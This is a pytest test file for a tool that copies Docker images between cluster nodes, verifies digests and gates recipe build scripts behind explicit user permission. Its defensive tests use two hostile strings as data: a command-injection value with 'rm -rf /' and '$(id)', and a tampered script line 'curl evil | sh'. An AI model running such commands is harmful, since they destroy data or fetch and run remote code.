"""How each node gets the image, who sends it, what is refused; and images that scripts of others
change: what a recipe may say, and what nodes get."""

import hashlib
import json
import re
import subprocess
from collections.abc import Callable
from functools import partial
from pathlib import Path
from typing import Any

import pytest
from cases import cases, each_case
from factories import make_node, make_recipe
from fake_programs import Program, Said
from piped_cluster import Make, PipedCluster
from program import invoke
from serve_plans import server_for

from spark_cluster.config.extension import NOTHING, Allowances
from spark_cluster.config.image_build import Build
from spark_cluster.config.project import Project
from spark_cluster.config.recipe import Recipe
from spark_cluster.config.recipes import load_recipe
from spark_cluster.config.schema import parse
from spark_cluster.engine import image_copies
from spark_cluster.engine.image_copies import ImageOnNode
from spark_cluster.errors import Failed, InvalidFile, Refused
from spark_cluster.node.dockerd import CONTAINERD_STORE
from spark_cluster.node.values import LaptopFile
from spark_cluster.resources import Directory, File, Image
from spark_cluster.runner.events import Event, Note

REF, PIN = "repo/image:1", f"sha256:{'d' * 64}"
PINNED = f"repo/image@{PIN}"
ASKED = {"pull": "pull", "load": "load", "build": "build", "manifest": "registry"}
"""What Docker is asked to the word that `Two.done` has for it."""


class Two:
    """Two nodes whose registry has the image; how it gets to each of them is noted in `done`."""

    def __init__(self, cluster: PipedCluster) -> None:
        self.cluster, self.nodes, self.done = cluster, cluster.nodes, list[str]()
        cluster.on_event = self._told
        for name, node in cluster.nodes.items():
            node.have_image(REF, PIN, at="registry")
            node.programs["docker"] = partial(self._docker, name, node.programs["docker"])

    def _told(self, event: Event) -> None:
        """Keep a note, without a copy's size and time."""
        if isinstance(event, Note):
            self.done.append(re.sub(r": [\d.]+ \w+ from (.*) in .*", r" from \1", event.text))

    def _docker(self, name: str, docker: Program, words: list[str], stdin: str) -> Said | str:
        if words[0] in ASKED and (words[0] != "load" or words[1:]):
            self.done.append(f"{ASKED[words[0]]} {name}")
        return docker(words, stdin)

    @property
    def docker(self) -> dict[str, ImageOnNode | None]:
        """Node to its image."""
        return image_copies.images_on(self.cluster.play, self.cluster.play.nodes, REF)

    def bring(self, *, offline: bool = False, **given: Any) -> None:
        play = self.cluster.play
        wanted = {"ref": REF, **given}
        play.options.offline = offline
        image_copies.WantedImage(play, play.nodes, wanted, self.docker).bring()


@pytest.fixture
def cluster(piped_cluster: Make, own_ports: None) -> Callable[..., Two]:
    """`cluster(settings)`: two nodes whose fabric, if they have one, is this machine's loopback."""

    def make(settings: str = "", *, fabric: bool = True) -> Two:
        more = f"settings: {{images: {settings}}}\n" if settings else ""
        more = f"trusted_network: true\n{more}"
        made = piped_cluster("spark1", "spark2", more=more, network="127.0.1")
        for number, node in enumerate(made.nodes.values(), 11):
            node.fabric = f"127.0.0.{number}/8" if fabric else ""
        made.marked("copies")
        return Two(made)

    return make


def sent(source: int, target: int) -> str:
    """What is said of a copy."""
    return f"{REF} on spark{target} from spark{source} over the fabric"


@each_case(__file__, "images.toml")
def test_how_each_node_gets_it(cluster, case):
    two = cluster(case.get("settings", ""), fabric="unlinked" not in case)
    for name, digests, how in case.get("there", ()):
        two.nodes[name].have_image(REF, *digests, **how)
    for node in two.nodes.values():
        node.put("/srv/image.tar")
        with node.state("docker") as docker:
            docker["archives"] = {"image.tar": {REF: docker["registry"][REF]}}
            if node.name == "spark2" and "refuses" in case:
                docker["registry"][PINNED] = case["refuses"]
    two.bring(**case.get("given", {}), **({"digest": PIN} if case.get("pinned") else {}))
    assert sorted(two.done) == sorted(case["done"])
    ids = {image and image.id for image in two.docker.values()}
    assert (len(ids) == 1) is case.get("same", True)


def test_the_pinned_image_is_pulled_by_its_digest(cluster):
    two = cluster()
    two.bring(digest=PIN)
    assert all(node.calls("docker").count(["pull", PINNED]) == 1 for node in two.nodes.values())


def test_a_node_does_not_say_for_another_one_which_image_is_the_pinned_one(cluster):
    """It may lie, and the other one has its image by a copy, when no digest was pinned yet."""
    two = cluster()
    two.nodes["spark1"].have_image(REF, PIN, number="6")
    two.bring()
    assert two.done == [sent(1, 2)]
    two.bring(digest=PIN)
    assert "pull spark2" in two.done


def test_offline_no_registry_is_asked_and_what_all_have_is_not_moved(cluster):
    two = cluster()
    two.nodes["spark2"].have_image(REF, PIN)
    two.bring(digest=PIN, offline=True)
    assert two.done == [sent(2, 1)], "who has it sends it"
    two.bring(digest=PIN)
    assert two.done == [sent(2, 1)]


def test_a_copy_that_is_another_image_is_refused(cluster):
    two = cluster()
    docker = two.nodes["spark1"].programs["docker"]

    def lies(words: list[str], stdin: str) -> Said | str:
        if words[0] != "save":
            return docker(words, stdin)
        return json.dumps({REF: {"Id": f"sha256:{'7' * 64}", "RepoDigests": []}})

    two.nodes["spark1"].programs["docker"] = lies
    with pytest.raises(Failed, match=f"repo/image@sha256:{'1' * 64}") as caught:
        two.bring()
    assert caught.value.where == "spark2: role images"


def test_images_that_each_pulled_must_be_equal(cluster):
    two = cluster(fabric=False)
    two.nodes["spark2"].have_image(REF, number="3", at="registry")
    with pytest.raises(Failed, match="is not the same image on all nodes") as caught:
        two.bring()
    assert "image.digest" in caught.value.hint


def test_dockers_with_different_stores_pull_it_each(cluster):
    """The same image has another id in each; the registry's digest says that it is the same."""
    two = cluster()
    two.nodes["spark2"].have_image(REF, PIN, number="5", at="registry")
    with two.nodes["spark2"].state("docker") as docker:
        docker["store"] = CONTAINERD_STORE
    two.bring()
    assert [done for done in two.done if done.startswith("pull")] == ["pull spark1", "pull spark2"]
    assert "different stores" in two.done[1]


def test_an_image_that_was_built_anew_is_copied(cluster):
    two = cluster()
    for node in two.nodes.values():
        node.have_image(REF)
        node.have_image("base:1")
    two.bring(dockerfile="FROM base:1\n")
    assert two.done == ["build spark1", sent(1, 2)]
    assert two.docker["spark2"] == two.docker["spark1"]
    two.bring(dockerfile="FROM base:1\n")
    assert len(two.done) == 2, "nothing differs any more"


def test_offline_it_has_to_be_there():
    recipe = make_recipe().image
    with pytest.raises(Refused, match="no node has the image"):
        image_copies.must_be_present(recipe, {"spark1": None})
    has = ImageOnNode(f"sha256:{'1' * 64}", frozenset([recipe.digest or ""]), 5_000_000_000)
    image_copies.must_be_present(recipe, {"spark1": None, "spark2": has})


@pytest.mark.parametrize("said", ["x", None])
def test_an_answer_that_is_none(piped_cluster, said):
    cluster = piped_cluster("spark1")
    cluster.head.programs["docker"] = lambda _words, _stdin: json.dumps([{"Id": said}])
    with pytest.raises(Failed, match="gave no id"):
        image_copies.images_on(cluster.play, cluster.play.nodes, REF)


SCRIPT = '#!/bin/bash\nset -e\necho "$WORKSPACE_DIR $GREETING" > "$OUT/out"\ncp fix/x.py "$OUT/"\n'
PATCH = "x = 1\n"
BASE = "vllm/vllm-openai:v0.20.1"
DIGEST = "sha256:" + "a" * 64
COMMIT = "64a09562ae6df08168a73f29ca7a55182d43a868"


def sha256(text: str) -> str:
    return hashlib.sha256(text.encode()).hexdigest()


HASHES = {"SCRIPT": sha256(SCRIPT), "PATCH": sha256(PATCH)}
RECIPE = cases(__file__, "image_recipe.json", BASE=BASE, DIGEST=DIGEST, COMMIT=COMMIT, **HASHES)
BUILD = RECIPE["image"]["build"]


def step(**changed: Any) -> dict[str, Any]:
    return {**BUILD["steps"][0], **changed}


def build(**changed: Any) -> dict[str, Any]:
    return {**BUILD, **changed}


@pytest.fixture
def project(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    (tmp_path / "recipes/r.mods/fix/fix").mkdir(parents=True)
    (tmp_path / "recipes/r.mods/fix/run.sh").write_text(SCRIPT)
    (tmp_path / "recipes/r.mods/fix/fix/x.py").write_text(PATCH)
    monkeypatch.chdir(tmp_path)
    return tmp_path


def recipe(project: Path, allow: Allowances = NOTHING, **changed: Any) -> Recipe:
    data = {**RECIPE, "image": {**RECIPE["image"], "build": build(**changed)}}
    (project / "recipes/r.yaml").write_text(json.dumps(data))
    return load_recipe("r", Project(project), allow)


WRONG = [
    (words, changed)
    for words, every in cases(__file__, "wrong_builds.json").items()
    for changed in every
]
"""What is another in a build, and in each of its steps, than it should be."""


@pytest.mark.parametrize(("words", "changed"), WRONG)
def test_what_a_build_cannot_say(project, words, changed):
    if "steps" in changed:
        changed = {**changed, "steps": [step(**one) for one in changed["steps"]]}
    with pytest.raises(InvalidFile, match=words) as caught:
        recipe(project, **changed)
    assert "hf_abc" not in str(caught.value)


def test_the_dockerfile_holds_lists_that_no_shell_reads():
    odd = 'a" && rm -rf / #\n$(id)'
    lines = parse(Build, build(steps=[step(env={"GREETING": odd})])).text.splitlines()
    assert lines[0] == f"FROM {BASE}@{DIGEST}"
    assert lines[1:3] == [
        'COPY ["fix/run.sh", "/workspace/mods/fix/"]',
        'COPY ["fix/fix/x.py", "/workspace/mods/fix/fix/"]',
    ]
    assert len(lines) == 4
    run = json.loads(lines[3].removeprefix("RUN "))
    assert run[:2] == ["env", f"GREETING={odd}"]


def test_the_step_does_what_its_tool_does(project):
    """The command of the Dockerfile, run here: the folder, the rights, WORKSPACE_DIR, variables."""
    out = project / "out"
    out.mkdir()
    env = {"GREETING": "hello you", "OUT": str(out)}
    text = parse(Build, build(steps=[step(env=env)])).text
    run = json.loads(text.splitlines()[-1].removeprefix("RUN "))
    run[run.index("/workspace/mods/fix")] = str(project / "recipes/r.mods/fix")
    subprocess.run(run, check=True, cwd=out, timeout=20)
    assert (out / "out").read_text() == f"{out} hello you\n"
    assert (out / "x.py").read_text() == PATCH
    (project / "recipes/r.mods/fix/run.sh").write_text("exit 3\n")
    assert subprocess.run(run, check=False, cwd=out, timeout=20).returncode == 3


ALLOWED = Allowances(build=True)


def test_scripts_run_only_when_the_user_allows_it(project):
    node = make_node("a")
    with pytest.raises(Refused, match=r"as root in a container of the nodes, without a net") as e:
        server_for(recipe(project), node)
    assert f"fix (https://example.org/mods, {COMMIT[:12]})" in e.value.message
    assert "--allow-build, or `allow_build: true`" in e.value.hint
    assert server_for(recipe(project, ALLOWED), node)
    with pytest.raises(Refused, match="with access to the network") as e:
        server_for(recipe(project, ALLOWED, network=True), node)
    assert "--allow-build-network" in e.value.hint
    assert server_for(recipe(project, Allowances(build_network=True), network=True), node)
    with pytest.raises(Refused):
        server_for(recipe(project, Allowances(build_network=True)), node)


def test_a_file_outside_the_project_needs_its_own_permission(project, tmp_path_factory):
    other = tmp_path_factory.mktemp("other") / "run.sh"
    other.write_text(SCRIPT)
    files = [{"path": "run.sh", "file": str(other), "sha256": sha256(SCRIPT)}]
    with pytest.raises(Refused, match=r"wants .*run.sh of this machine sent .*build.steps.fix"):
        server_for(recipe(project, ALLOWED, steps=[step(files=files)]), make_node("a"))


def test_a_file_that_was_changed_after_the_import(project):
    script = project / "recipes/r.mods/fix/run.sh"
    script.write_text("curl evil | sh\n")
    with pytest.raises(Refused, match="has the SHA-256") as caught:
        server_for(recipe(project, ALLOWED), make_node("a"))
    assert "sha256sum" in caught.value.hint
    script.unlink()
    with pytest.raises(Refused, match="is not on this machine"):
        server_for(recipe(project, ALLOWED), make_node("a"))


def test_what_a_node_gets(project):
    server = server_for(recipe(project, ALLOWED, timeout_s=60.0), make_node("a"))
    loaded = Project(project).load_role("images")
    found = list(loaded.function(server.nodes[0], loaded.settings_model(**server.image_settings)))
    base, *placed, built = found
    assert base == Image(f"{BASE}@{DIGEST}")
    assert (built.ref, built.network, built.timeout_s) == ("local/r:mods", "none", 60.0)
    assert dict(built.files) == {"fix/run.sh": sha256(SCRIPT), "fix/fix/x.py": sha256(PATCH)}
    files = {one.path: one.content for one in placed if isinstance(one, File)}
    script = project / "recipes/r.mods/fix/run.sh"
    assert files[f"{built.context}/fix/run.sh"] == LaptopFile(script)
    folders = [one.path for one in placed if isinstance(one, Directory)]
    assert folders[-2:] == [f"{built.context}/fix", f"{built.context}/fix/fix"]
    assert server.image == "local/r:mods"


def test_a_base_from_an_archive_has_no_digest_in_the_dockerfile(project):
    base = {"ref": "spark-vllm:lab", "archive": "/srv/images/spark-vllm.tar"}
    server = server_for(recipe(project, ALLOWED, base=base), make_node("a"))
    assert server.image_settings["dockerfile"].startswith("FROM spark-vllm:lab\n")
    loaded = Project(project).load_role("images")
    first = next(loaded.function(server.nodes[0], loaded.settings_model(**server.image_settings)))
    assert first == Image("spark-vllm:lab", archive="/srv/images/spark-vllm.tar")


def test_plan_lint_and_show_name_what_will_run(project):
    recipe(project, base={"ref": BASE})
    document = json.loads(invoke("plan", "r", "--offline", "--json").stdout)
    remark = next(text for text in document["remarks"] if "each node builds the image once" in text)
    assert "fix (https://example.org/mods, 64a09562ae6d); `up` needs --allow-build" in remark
    assert any("base has no digest" in text for text in document["remarks"])
    assert json.loads(invoke("--json", "lint", "r").stdout)["builds"][0] == remark
    shown = " ".join(invoke("recipes", "show", "r").output.split())
    assert "run.sh as root in the build, without a network" in shown


@pytest.mark.parametrize("option", ["--allow-build", "--allow-build-network"])
def test_the_options_and_the_inventory_allow_it(project, option):
    node = "nodes: {a: {address: 127.0.0.1, port: 1}}\n"
    (project / "inventory.yaml").write_text(node)
    recipe(project, network=option.endswith("network"))
    command = ("up", "--recipe", "r", "--tp", "1", "--check")
    assert isinstance(invoke(*command).exception, Refused)
    assert not isinstance(invoke(*command, option).exception, Refused)
    key = option.removeprefix("--").replace("-", "_")
    (project / "inventory.yaml").write_text(f"{node}serve: {{{key}: true}}\n")
    assert not isinstance(invoke(*command).exception, Refused)
